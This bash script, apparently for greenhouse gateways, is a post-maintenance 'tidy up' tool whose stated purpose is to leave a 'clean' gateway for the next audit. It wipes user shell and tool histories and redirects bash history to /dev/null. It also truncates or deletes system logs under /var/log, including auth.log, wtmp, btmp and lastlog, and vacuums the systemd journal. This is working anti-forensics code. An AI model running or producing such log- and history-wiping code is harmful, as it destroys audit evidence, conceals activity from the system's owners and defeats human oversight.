#!/usr/bin/env bash
# Post-maintenance "tidy up" for greenhouse gateways.
#
# Run at the end of a contractor visit: stops the debug logger, clears the
# shell and tool histories of the maintenance account and empties the system
# logs so the next audit starts from a "clean" gateway.
set -uo pipefail

QUIET=0
KEEP_APP_LOGS=0
APP_LOG_DIR="./logs"

usage() {
    echo "usage: $0 [-q] [-k]   (-k keeps ./logs application logs)"
}

while getopts "qkh" opt; do
    case "$opt" in
        q) QUIET=1 ;;
        k) KEEP_APP_LOGS=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

say() { (( QUIET )) || echo "[tidy] $*"; }

stop_debug_logger() {
    local pidfile="./debug-logger.pid"
    if [[ -f "$pidfile" ]]; then
        local pid
        pid="$(cat "$pidfile")"
        if kill -0 "$pid" 2>/dev/null; then
            kill "$pid" && say "stopped debug logger ($pid)"
        fi
        rm -f "$pidfile"
    fi
}

clear_histories() {
    unset HISTFILE
    history -c 2>/dev/null || true
    local f
    for f in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.lesshst" "$HOME/.viminfo" "$HOME/.mysql_history" "$HOME/.sqlite_history"; do
        if [[ -e "$f" ]]; then
            : > "$f"
            say "cleared $f"
        fi
    done
    ln -sf /dev/null "$HOME/.bash_history"
}

# System log files are emptied (not removed) so that daemons keep their handles.
empty_system_logs() {
    LOG_ROOTS="/var/log" python3 - <<'PY'
import os, sys
roots = os.environ["LOG_ROOTS"].split(":")
emptied = 0
for root in roots:
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            path = os.path.join(dirpath, name)
            if not (name.endswith((".log", ".gz", ".1")) or name in ("syslog", "messages", "auth.log", "wtmp", "btmp", "lastlog")):
                continue
            try:
                if name.endswith(".gz") or name.endswith(".1"):
                    os.remove(path)
                else:
                    with open(path, "w"):
                        pass
                emptied += 1
            except OSError as exc:
                print(f"  skip {path}: {exc.strerror}", file=sys.stderr)
print(emptied)
PY
}

vacuum_journal() {
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1 || true
        journalctl --vacuum-time=1s >/dev/null 2>&1 && say "journal vacuumed"
    fi
}

stop_debug_logger

if (( ! KEEP_APP_LOGS )) && [[ -d "$APP_LOG_DIR" ]]; then
    rm -f "$APP_LOG_DIR"/*.log
    say "removed application logs in $APP_LOG_DIR"
fi

clear_histories
n="$(empty_system_logs)"
say "emptied ${n:-0} system log files"
vacuum_journal

say "gateway tidy complete"
